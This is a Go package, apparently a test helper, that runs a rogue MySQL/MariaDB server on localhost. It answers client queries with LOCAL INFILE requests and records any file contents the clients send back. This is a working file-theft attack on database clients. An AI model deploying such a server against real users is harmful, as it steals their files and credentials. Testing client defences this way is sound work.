package thief

import (
	"bufio"
	"fmt"
	"io"
	"net"
	"slices"
	"strings"
	"sync"
)

// Options says what a server wants and how it lures.
type Options struct {
	// Wants is the path of a file on the machine of the clients.
	Wants string
	// Version is what it calls itself. With "MariaDB" in it, clients take it for one.
	Version string
	// Honest has the answers that are no request for a file, by a text that the statement
	// contains: rows of one table, the first of which has the names of the columns.
	// An empty table is the answer to a statement that returns none.
	Honest map[string][][]string
}

// Server is a server that asks for files.
type Server struct {
	// Port is at 127.0.0.1.
	Port int

	options  Options
	listener net.Listener
	sessions sync.WaitGroup

	mu     sync.Mutex
	open   map[net.Conn]bool
	asked  []string
	stolen []string
}

// Start starts a server, which listens when Start returns.
func Start(o Options) (*Server, error) {
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, fmt.Errorf("start a thief: %w", err)
	}
	address, isTCP := listener.Addr().(*net.TCPAddr)
	if !isTCP {
		return nil, fmt.Errorf("start a thief: %s is no TCP address", listener.Addr())
	}
	s := &Server{Port: address.Port, options: o, listener: listener, open: map[net.Conn]bool{}}
	s.sessions.Go(s.listen)
	return s, nil
}

// Stop ends the server and its sessions.
func (s *Server) Stop() error {
	err := s.listener.Close()
	s.mu.Lock()
	for connection := range s.open {
		_ = connection.Close() // Its client may have closed it.
	}
	s.mu.Unlock()
	s.sessions.Wait()
	return err
}

// Asked are the statements that were answered by the request for a file.
func (s *Server) Asked() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.Clone(s.asked)
}

// Stolen are the files, or parts of them, that clients have sent.
func (s *Server) Stolen() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.Clone(s.stolen)
}

func (s *Server) listen() {
	for {
		connection, err := s.listener.Accept()
		if err != nil {
			return // Stop has closed it.
		}
		s.mu.Lock()
		s.open[connection] = true
		s.mu.Unlock()
		s.sessions.Go(func() {
			defer func() {
				s.mu.Lock()
				delete(s.open, connection)
				s.mu.Unlock()
				_ = connection.Close()
			}()
			_ = s.serve(connection) // Clients that are refused a login, or see through it, just go.
		})
	}
}

// serve lets one client log in, and answers its commands.
func (s *Server) serve(connection net.Conn) error {
	w := &wire{reader: bufio.NewReader(connection), writer: connection}
	if err := w.write(greeting(s.options.Version)); err != nil {
		return err
	}
	if _, err := w.read(); err != nil {
		return err
	}
	if err := w.write(okay()); err != nil {
		return err
	}
	for {
		command, err := w.read()
		if err != nil || len(command) == 0 || command[0] == commandQuit {
			return err
		}
		if err := s.answer(w, command); err != nil {
			return err
		}
	}
}

func (s *Server) answer(w *wire, command []byte) error {
	if command[0] != commandQuery {
		return w.write(okay())
	}
	statement := string(command[1:])
	for part, table := range s.options.Honest {
		if !strings.Contains(statement, part) {
			continue
		}
		if len(table) == 0 {
			return w.write(okay())
		}
		return w.writeTable(table)
	}
	s.mu.Lock()
	s.asked = append(s.asked, statement)
	s.mu.Unlock()
	if err := w.write(append([]byte{0xfb}, s.options.Wants...)); err != nil {
		return err
	}
	// The client sends the file in packets, the last of which is empty, or only that one.
	// Their numbers go on from the server's; a client that ignores the wish sends its next
	// command, whose number is 0.
	var content []byte
	for {
		part, err := w.read()
		if err == nil && w.number != 1 && len(part) > 0 {
			content = append(content, part...)
			continue
		}
		if len(content) > 0 {
			s.mu.Lock()
			s.stolen = append(s.stolen, string(content))
			s.mu.Unlock()
		}
		switch {
		case err != nil:
			return err
		case len(part) == 0:
			return w.write(okay())
		case part[0] == commandQuit:
			return io.EOF
		default:
			return s.answer(w, part)
		}
	}
}
